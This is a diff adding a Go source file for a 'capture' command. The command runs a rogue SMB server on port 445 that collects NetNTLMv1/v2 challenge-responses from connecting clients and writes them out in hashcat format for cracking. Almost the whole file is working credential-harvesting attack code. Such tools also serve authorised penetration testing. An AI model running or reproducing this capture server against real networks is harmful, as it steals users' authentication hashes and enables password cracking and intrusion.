@@ -0,0 +1,83 @@
+package main
+
+import (
+	"flag"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"sync"
+
+	"github.com/ericblavier/go-smb/ntlmssp"
+	"github.com/ericblavier/go-smb/smbserver"
+)
+
+// Record of a NTLM response captured by the capture command
+type captureRecord struct {
+	Client      string `json:"client"`
+	User        string `json:"user"`
+	Domain      string `json:"domain"`
+	Workstation string `json:"workstation,omitempty"`
+	Type        string `json:"type"`
+	Hash        string `json:"hash"`
+}
+
+func newCaptureRecord(remote net.Addr, r *ntlmssp.ChallengeResponse) captureRecord {
+	client := remote.String()
+	if host, _, err := net.SplitHostPort(client); err == nil {
+		client = host
+	}
+	rec := captureRecord{Client: client, User: r.User, Domain: r.Domain, Workstation: r.Workstation, Type: "NetNTLMv1", Hash: r.Hashcat()}
+	if r.IsV2() {
+		rec.Type = "NetNTLMv2"
+	}
+	return rec
+}
+
+func runCapture(args []string) error {
+	fs := flag.NewFlagSet("capture", flag.ExitOnError)
+	listen := fs.String("listen", ":445", "Address to listen on")
+	output := fs.String("o", "", "Also append the hashes in hashcat format to this file")
+	name := fs.String("name", "GOSMB", "NetBIOS name announced by the server")
+	workgroup := fs.String("workgroup", "WORKGROUP", "NetBIOS domain name announced by the server")
+	fs.Parse(args)
+	if fs.NArg() != 0 {
+		return fmt.Errorf("Usage: capture [-listen addr] [-o file] [-name name] [-workgroup name]")
+	}
+
+	var out io.Writer = io.Discard
+	if *output != "" {
+		f, err := os.OpenFile(*output, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o600)
+		if err != nil {
+			return err
+		}
+		defer f.Close()
+		out = f
+	}
+
+	var mu sync.Mutex
+	srv, err := smbserver.NewServer(smbserver.Options{
+		ComputerName: *name,
+		Domain:       *workgroup,
+		CaptureOnly:  true,
+		Capture: func(remote net.Addr, r *ntlmssp.ChallengeResponse) {
+			rec := newCaptureRecord(remote, r)
+			mu.Lock()
+			defer mu.Unlock()
+			if *jsonOutput {
+				emit(rec)
+			} else {
+				fmt.Fprintf(os.Stderr, "Captured %s response of %s\\%s from %s\n", rec.Type, rec.Domain, rec.User, rec.Client)
+				fmt.Println(rec.Hash)
+			}
+			if _, err := fmt.Fprintln(out, rec.Hash); err != nil {
+				fmt.Fprintf(os.Stderr, "Failed to write %s: %s\n", *output, err)
+			}
+		},
+	})
+	if err != nil {
+		return err
+	}
+	fmt.Fprintf(os.Stderr, "Listening on %s, every logon is refused once its response is captured\n", *listen)
+	return srv.ListenAndServe(*listen)
+}